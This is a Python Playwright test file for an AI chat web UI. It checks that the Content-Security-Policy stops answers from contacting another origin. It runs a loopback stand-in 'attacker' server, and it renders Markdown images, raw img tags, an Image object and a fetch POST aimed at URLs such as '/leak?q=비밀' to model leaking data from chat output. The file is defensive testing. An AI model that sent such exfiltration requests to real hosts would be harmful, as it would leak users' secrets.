"""The web UI under the server's Content-Security-Policy, in headless Chromium: the page and a
Korean chat run with no CSP violation, and an answer whose Markdown points an image at
another origin (a local stand-in for an attacker's server) makes no request to it: the CSP
alone stops it, whatever the sanitiser keeps."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from tests.conftest import RunningServer

# Recorded from the first script of every document (init scripts are exempt from the CSP).
WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) =>
  window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
"""


class _Recorder(BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """A stand-in for the attacker's server on another loopback port: its URL and the paths
    it was asked for."""
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits})
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", hits
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture
def page(
    server_factory: Callable[..., RunningServer], browser: Browser
) -> Iterator[tuple[Page, list[str]]]:
    """A page on a fresh echo server, and the CSP complaints in its console."""
    srv = server_factory(default_model="echo")
    page = browser.new_page(locale="ko-KR")
    console: list[str] = []

    def watch(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            console.append(message.text)

    page.on("console", watch)
    page.add_init_script(WATCH)
    page.goto(srv.url + "/")
    page.wait_for_selector("body[data-ready=true]")
    yield page, console
    page.close()


def _chat(page: Page, text: str, count: int = 1) -> None:
    page.fill("#input", text)
    page.press("#input", "Enter")
    # the first turn embeds the skill descriptions with e5: slow on a busy machine
    answered = page.locator(".msg.assistant:not(.streaming)")
    expect(answered).to_have_count(count, timeout=240_000)


def _violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.__violations")
    return found


def test_the_page_and_a_chat_run_under_the_csp(page: tuple[Page, list[str]]) -> None:
    tab, console = page
    assert "script-src 'self'" in _csp(tab)
    _chat(tab, "**안녕하세요**, 오늘 `서울` 날씨는?\n\n| 도시 | 날씨 |\n|:--|--:|\n| 서울 | 맑음 |")
    body = tab.locator(".msg.assistant .body")
    expect(body.locator("strong")).to_have_text("안녕하세요")  # Markdown rendered by the scripts
    expect(body.locator("table td").first).to_have_text("서울")
    tab.click("#tab-docs")
    tab.click("#tab-memory")
    tab.click("#tab-tuning")
    tab.wait_for_timeout(300)
    assert _violations(tab) == [] and console == []


def test_a_remote_image_in_an_answer_makes_no_request(
    page: tuple[Page, list[str]], attacker: tuple[str, list[str]]
) -> None:
    tab, _ = page
    url, hits = attacker
    loaded: list[str] = []  # Chromium reports a blocked request too; count the ones that ended
    tab.on("requestfinished", lambda r: loaded.append(r.url) if r.url.startswith(url) else None)
    leak = f"{url}/leak?q=%EB%B9%84%EB%B0%80"  # ?q=비밀
    _chat(tab, f'반가워요, 좋은 아침이에요.\n\n![x]({leak})\n\n<img src="{url}/raw-html">', 1)
    tab.wait_for_timeout(1500)  # give an image load every chance to happen
    expect(tab.locator(".msg.assistant .body")).to_contain_text("반가워요, 좋은 아침이에요")
    assert hits == [] and loaded == []
    # The CSP alone, whatever the sanitiser lets through: an image put straight into the
    # answer, an Image object and a fetch from the page all stay home.
    tab.evaluate(
        """(url) => {
          document.querySelector(".msg.assistant .body")
            .insertAdjacentHTML("beforeend", `<img src="${url}/injected">`);
          new Image().src = `${url}/image-object`;
          fetch(`${url}/fetch`, {method: "POST", body: "비밀", mode: "no-cors"}).catch(() => {});
        }""",
        url,
    )
    tab.wait_for_timeout(1500)
    assert hits == [] and loaded == []
    violations = " ".join(_violations(tab))
    assert "img-src" in violations and "connect-src" in violations
    # the page still works after the attempt
    _chat(tab, "다음 질문입니다", 2)
    assert hits == []


def _csp(tab: Page) -> str:
    response = tab.request.get(tab.url)
    return response.headers.get("content-security-policy", "")
